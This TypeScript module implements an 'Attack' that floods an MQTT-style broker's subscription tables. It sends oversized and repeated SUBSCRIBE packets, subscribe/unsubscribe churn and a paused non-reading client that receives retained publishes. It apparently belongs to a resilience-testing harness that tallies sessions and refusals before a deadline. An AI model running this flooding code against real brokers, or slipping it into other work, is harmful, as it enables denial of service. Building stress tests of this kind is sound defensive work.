import type { Socket } from 'node:net';
import type { Attack, AttackParts } from './target.js';
import { ended, nameOf, publishPacket, signIn, subscribePacket, unsubscribePacket } from './wire.js';

/** Filters that fit into a packet that a broker accepts, and far more. */
const FILTERS_PER_PACKET = 30;
const FILTERS_TOO_MANY = 900;
const PACKETS_PER_SESSION = 400;
const SESSION_MS = 500;
const PAUSE_MS = 100;

type Round = (socket: Socket, parts: AttackParts, round: number) => unknown;

/** Returns filters that nobody else uses, within the topics that a gateway may read. */
function distinct(parts: AttackParts, round: number, count = FILTERS_PER_PACKET): string[] {
  return Array.from({ length: count }, (_, i) => `gtx/v1/${nameOf(parts)}/ack/${round}-${i}`);
}

const own = (parts: AttackParts) => [`gtx/v1/${nameOf(parts)}/ack/+`, `gtx/v1/${nameOf(parts)}/command`];

const ROUNDS: readonly Round[] = [
  (socket, parts, round) => socket.write(subscribePacket(distinct(parts, round, FILTERS_TOO_MANY))),
  (socket, parts, round) => {
    for (let i = 0; i < PACKETS_PER_SESSION; i++) socket.write(subscribePacket(distinct(parts, round * 1_000 + i)));
  },
  (socket, parts) => {
    const same = Array<string[]>(FILTERS_PER_PACKET).fill(own(parts)).flat();
    for (let i = 0; i < PACKETS_PER_SESSION; i++) socket.write(subscribePacket(same));
  },
  (socket, parts, round) => {
    for (let i = 0; i < PACKETS_PER_SESSION; i++) {
      socket.write(subscribePacket(own(parts)));
      socket.write(unsubscribePacket([...own(parts), ...distinct(parts, round)]));
    }
  },
  // A reader that does not read, although the broker may deliver everything to it.
  (socket, parts) => {
    const status = `gtx/v1/${nameOf(parts)}/status`;
    socket.write(subscribePacket([status]));
    socket.pause();
    for (let i = 0; i < 400; i++) socket.write(publishPacket(status, Buffer.alloc(8_000, 0x20), true));
  },
];

/**
 * Fills the broker's tables: distinct filters, the same filters thousands of times, churn, sessions, a reader that does
 * not read.
 */
export const subscriptions: Attack = async (parts) => {
  const { clock, deadline } = parts;
  let sessions = 0;
  let refused = 0;
  for (let round = 0; clock.now() < deadline; round++) {
    const socket = await signIn(parts, undefined, `/${round}`);
    if (socket) {
      sessions++;
      ROUNDS[round % ROUNDS.length]?.(socket, parts, round);
      await clock.sleep(SESSION_MS);
      socket.destroy();
      await ended(socket, SESSION_MS);
    } else refused++;
    await clock.sleep(PAUSE_MS);
  }
  return { sessions, refused };
};
